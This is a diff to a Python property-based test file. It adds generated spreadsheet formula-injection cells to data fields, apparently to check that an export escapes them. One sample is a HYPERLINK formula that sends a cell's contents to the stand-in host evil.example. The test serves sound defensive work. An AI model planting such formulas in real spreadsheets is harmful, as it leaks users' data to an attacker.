@@ -28,6 +28,27 @@ odd_counts = st.tuples(
 )
 
 
+# Cells a spreadsheet would run as formulas, and the quotes that defuse them.
+hostile_cells = st.one_of(
+    st.sampled_from(
+        [
+            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+            "+2",
+            "-1",
+            "@SUM(A1:A9)",
+            "=1+1",
+            "'",
+            "'x",
+            "'=x",
+            "''+2",
+        ]
+    ),
+    st.builds(
+        lambda q, c, t: "'" * q + c + t, st.integers(0, 3), st.sampled_from(list("=+-@\t\r'a")), st.text(max_size=5)
+    ),
+).filter(lambda text: text.strip() != "")
+
+
 @st.composite
 def varied_claims(draw: st.DrawFn) -> list[Claim]:
     """The shared strategy's claims, some moved to unusual counts and given evidence fields."""
@@ -36,6 +57,10 @@ def varied_claims(draw: st.DrawFn) -> list[Claim]:
         changes: dict[str, object] = {}
         if draw(st.booleans()) and not claim.supersedes and not claim.retracts:
             changes["metric"], changes["group"] = draw(odd_counts)
+        if draw(st.booleans()):
+            changes["quote"] = draw(hostile_cells)
+            changes["via"] = draw(hostile_cells)
+            changes["source"] = {"name": draw(hostile_cells), "kind": claim.source.kind}
         if draw(st.booleans()):
             changes["url"] = draw(st.sampled_from(["https://t.me/kyivcity/1", "https://example.org/a?b=1,2"]))
             changes["language"] = draw(st.sampled_from(["en", "uk"]))
